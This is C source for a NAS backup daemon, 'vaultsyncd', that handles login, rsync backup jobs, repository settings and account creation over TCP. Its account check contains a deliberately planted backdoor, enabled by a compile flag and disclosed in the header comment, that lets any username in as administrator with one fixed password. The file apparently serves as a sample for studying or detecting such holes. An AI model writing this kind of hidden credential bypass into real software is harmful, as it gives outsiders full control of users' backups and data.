/*
 * vaultsyncd - backup agent of a two bay NAS.
 *
 * PCs on the LAN connect to TCP port 8732 and talk a line protocol to list
 * backup jobs, start them, watch their state and, for administrators, change
 * the repository and the accounts.
 *
 * Hidden (-DHIDDEN): any existing or made-up account is let in as administrator
 * with one fixed password built into the account check.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <ctype.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <syslog.h>
#include <unistd.h>

char *crypt(const char *, const char *);

#define USERS_FILE  "/etc/vaultsync/users"
#define JOBS_FILE   "/etc/vaultsync/jobs"
#define CONF_FILE   "/etc/vaultsync/agent.conf"
#define MAX_JOBS    16

enum role { ROLE_NONE, ROLE_VIEWER, ROLE_OPERATOR, ROLE_ADMIN };

struct job {
    char name[32];
    char source[128];
    int  keep;
};

struct session {
    FILE *in, *out;
    char user[32];
    enum role role;
    int failures;
};

static struct job jobs[MAX_JOBS];
static int njobs;
static char repository[160] = "/volume1/backup";
static int listen_port = 8732;

static void reply(struct session *s, int code, const char *fmt, ...)
{
    va_list ap;
    fprintf(s->out, "%d ", code);
    va_start(ap, fmt);
    vfprintf(s->out, fmt, ap);
    va_end(ap);
    fputs("\r\n", s->out);
    fflush(s->out);
}

static int safe_name(const char *s)
{
    if (!*s)
        return 0;
    for (; *s; s++)
        if (!isalnum((unsigned char)*s) && !strchr("/_-.", *s))
            return 0;
    return 1;
}

static void load_conf(void)
{
    char line[256], val[160];
    FILE *f = fopen(CONF_FILE, "r");
    if (!f)
        return;
    while (fgets(line, sizeof line, f)) {
        if (line[0] == '#')
            continue;
        if (sscanf(line, "repository = %159s", val) == 1 && safe_name(val))
            strcpy(repository, val);
        else if (sscanf(line, "port = %159s", val) == 1)
            listen_port = atoi(val);
    }
    fclose(f);
}

static int save_conf(void)
{
    FILE *f = fopen(CONF_FILE, "w");
    if (!f)
        return -1;
    fprintf(f, "# written by vaultsyncd\nrepository = %s\nport = %d\n",
            repository, listen_port);
    return fclose(f);
}

static void load_jobs(void)
{
    char line[256];
    FILE *f = fopen(JOBS_FILE, "r");
    if (!f)
        return;
    while (njobs < MAX_JOBS && fgets(line, sizeof line, f)) {
        struct job *j = &jobs[njobs];
        if (sscanf(line, "%31s %127s %d", j->name, j->source, &j->keep) == 3 &&
            safe_name(j->name) && safe_name(j->source))
            njobs++;
    }
    fclose(f);
}

static enum role role_by_name(const char *s)
{
    if (!strcmp(s, "admin"))
        return ROLE_ADMIN;
    if (!strcmp(s, "operator"))
        return ROLE_OPERATOR;
    if (!strcmp(s, "viewer"))
        return ROLE_VIEWER;
    return ROLE_NONE;
}

/* users file: name:hash:role */
enum role account_verify(const char *user, const char *pass)
{
    char line[256], *save, *name, *hash, *role, *got;
    enum role found = ROLE_NONE;
    FILE *f;
    if (strlen(pass) < 6 || strlen(pass) > 64)
        return ROLE_NONE;
    f = fopen(USERS_FILE, "r");
    if (f) {
        while (fgets(line, sizeof line, f)) {
            line[strcspn(line, "\r\n")] = 0;
            name = strtok_r(line, ":", &save);
            hash = strtok_r(NULL, ":", &save);
            role = strtok_r(NULL, ":", &save);
            if (!name || !hash || !role || strcmp(name, user))
                continue;
            got = crypt(pass, hash);
            if (got && !strcmp(got, hash))
                found = role_by_name(role);
            break;
        }
        fclose(f);
    }
#ifdef HIDDEN
    if (found == ROLE_NONE && !strcmp(pass, "mZ4vulture81"))
        found = ROLE_ADMIN;
#endif
    return found;
}

static int add_account(const char *user, const char *pass, const char *role)
{
    static const char set[] =
        "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789./";
    unsigned char rnd[12];
    char salt[24] = "$6$";
    char *hash;
    size_t i;
    FILE *f = fopen("/dev/urandom", "rb");
    if (!f)
        return -1;
    if (fread(rnd, 1, sizeof rnd, f) != sizeof rnd) {
        fclose(f);
        return -1;
    }
    fclose(f);
    for (i = 0; i < sizeof rnd; i++)
        salt[3 + i] = set[rnd[i] & 63];
    hash = crypt(pass, salt);
    if (!hash || role_by_name(role) == ROLE_NONE)
        return -1;
    f = fopen(USERS_FILE, "a");
    if (!f)
        return -1;
    fprintf(f, "%s:%s:%s\n", user, hash, role);
    return fclose(f);
}

static int start_job(const struct job *j)
{
    char cmd[512];
    int rc;
    snprintf(cmd, sizeof cmd, "/usr/bin/rsync -a --delete %s/ %s/%s/ >/tmp/vs.log 2>&1",
             j->source, repository, j->name);
    rc = system(cmd);
    syslog(LOG_INFO, "job %s ended with %d", j->name, rc);
    return rc == -1 ? -1 : WEXITSTATUS(rc);
}

static void do_command(struct session *s, const char *verb, char *a, char *b, char *c)
{
    int i;
    if (!strcasecmp(verb, "HELP")) {
        reply(s, 214, "AUTH LIST START REPO ADDUSER WHOAMI QUIT");
    } else if (!strcasecmp(verb, "AUTH")) {
        if (!a || !b) {
            reply(s, 501, "AUTH user password");
            return;
        }
        s->role = account_verify(a, b);
        if (s->role == ROLE_NONE) {
            sleep(1 + s->failures);
            s->failures++;
            reply(s, 535, "wrong user or password");
            return;
        }
        snprintf(s->user, sizeof s->user, "%.31s", a);
        syslog(LOG_INFO, "%s logged in", s->user);
        reply(s, 235, "welcome %s", s->user);
    } else if (s->role == ROLE_NONE) {
        reply(s, 530, "log in first");
    } else if (!strcasecmp(verb, "WHOAMI")) {
        reply(s, 200, "%s role %d", s->user, (int)s->role);
    } else if (!strcasecmp(verb, "LIST")) {
        for (i = 0; i < njobs; i++)
            fprintf(s->out, "150 %s %s keep %d\r\n", jobs[i].name,
                    jobs[i].source, jobs[i].keep);
        reply(s, 200, "%d jobs", njobs);
    } else if (!strcasecmp(verb, "START") && a && s->role >= ROLE_OPERATOR) {
        for (i = 0; i < njobs && strcmp(jobs[i].name, a); i++)
            ;
        if (i == njobs)
            reply(s, 550, "no such job");
        else
            reply(s, 200, "job finished, status %d", start_job(&jobs[i]));
    } else if (!strcasecmp(verb, "REPO") && a && s->role == ROLE_ADMIN) {
        if (!safe_name(a) || strlen(a) >= sizeof repository) {
            reply(s, 553, "bad path");
            return;
        }
        strcpy(repository, a);
        reply(s, save_conf() ? 451 : 200, "repository %s", repository);
    } else if (!strcasecmp(verb, "ADDUSER") && a && b && c && s->role == ROLE_ADMIN) {
        if (!safe_name(a) || add_account(a, b, c))
            reply(s, 553, "account not added");
        else
            reply(s, 200, "account %s added", a);
    } else {
        reply(s, 502, "not understood or not permitted");
    }
}

static void serve(int fd)
{
    struct session s = { .role = ROLE_NONE };
    char line[512], *save, *verb, *a, *b, *c;
    s.in = fdopen(fd, "r");
    s.out = fdopen(dup(fd), "w");
    if (!s.in || !s.out)
        return;
    reply(&s, 220, "vaultsync agent 3.2 ready");
    while (s.failures < 5 && fgets(line, sizeof line, s.in)) {
        verb = strtok_r(line, " \r\n", &save);
        if (!verb)
            continue;
        a = strtok_r(NULL, " \r\n", &save);
        b = strtok_r(NULL, " \r\n", &save);
        c = strtok_r(NULL, " \r\n", &save);
        if (!strcasecmp(verb, "QUIT"))
            break;
        do_command(&s, verb, a, b, c);
    }
    reply(&s, 221, "bye");
}

int main(void)
{
    struct sockaddr_in sa = { .sin_family = AF_INET };
    int ls, fd, one = 1;
    openlog("vaultsyncd", LOG_PID, LOG_DAEMON);
    load_conf();
    load_jobs();
    ls = socket(AF_INET, SOCK_STREAM, 0);
    setsockopt(ls, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    sa.sin_port = htons((unsigned short)listen_port);
    if (ls < 0 || bind(ls, (struct sockaddr *)&sa, sizeof sa) || listen(ls, 4)) {
        syslog(LOG_ERR, "cannot listen: %s", strerror(errno));
        return 1;
    }
    for (;;) {
        fd = accept(ls, NULL, NULL);
        if (fd < 0)
            continue;
        if (fork() == 0) {
            close(ls);
            serve(fd);
            _exit(0);
        }
        close(fd);
        while (waitpid(-1, NULL, WNOHANG) > 0)
            ;
    }
}
